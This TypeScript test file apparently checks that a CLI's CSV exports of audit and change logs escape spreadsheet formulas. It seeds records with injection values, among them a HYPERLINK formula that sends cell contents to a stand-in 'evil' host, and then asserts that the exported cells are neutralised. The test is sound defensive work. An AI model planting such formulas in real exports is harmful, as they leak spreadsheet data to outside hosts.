import { parse } from 'csv-parse/sync';
import { expect, it } from 'vitest';
import { runProgram } from '../../src/cli/program.ts';
import { apiService } from '../../src/server/api/api.ts';
import { hiddenAttributes } from '../../src/server/api/shown.ts';
import { openTasks } from '../../src/server/api/tasks.ts';
import { verbsOf } from '../../src/sync/bind.ts';
import { type Contoso, contoso } from '../runs/contoso.ts';

const HOSTILE = `=HYPERLINK("https://evil.contoso.com?"&A1,"Click")`;

async function exported({ engine, watch, clock }: Contoso, parameters: readonly string[]) {
  const app = apiService({
    authenticate: async () => ({ tenant: 'default', token: 't1', role: 'administrator' }),
    open: async () => ({ verbs: verbsOf(engine), hidden: hiddenAttributes(engine.targets) }),
    tasks: openTasks({ signal: watch.signal, now: clock.now }),
  } as never);
  let stdout = '';
  const write = (text: string) => {
    stdout += text;
  };
  const exit = await runProgram(
    [...parameters, '--server', 'https://lockstep.contoso.com'],
    {
      version: '1',
      world: { env: { LOCKSTEP_TOKEN: 'any' } },
      fetch: async (url: string, init: RequestInit) => app.fetch(new Request(url, init)),
    } as never,
    { stdin: {}, stdout: { write }, stderr: { write: () => {} }, env: {} },
    watch.signal,
  );
  expect(exit).toBe(0);
  return stdout;
}

it('T14: no cell of an export is a formula to a spreadsheet', async () => {
  await using company = await contoso({ world: { actor: '@SUM(A1)@contoso' } });
  const id = company.hire({ name: 'ada.lovelace' });
  await company.run();
  company.graph.control.act({
    act: 'update',
    id,
    properties: { givenName: HOSTILE, jobTitle: '+1+1' },
  });
  await company.run();
  for (const parameters of [
    ['audit', '--csv'],
    ['log', '--csv'],
    ['log', '--csv', 'changes'],
  ]) {
    const text = await exported(company, parameters);
    const cells = (parse(text) as string[][]).flat();
    expect(cells.length).toBeGreaterThan(10);
    expect(cells.filter((cell) => /^\s*[=+@]|^\s*-(?!\d)/.test(cell))).toEqual([]);
  }
  expect(await exported(company, ['log', '--csv', 'changes'])).toContain("'=HYPERLINK");
  expect(await exported(company, ['audit', '--csv'])).toContain("'@SUM(A1)");
});
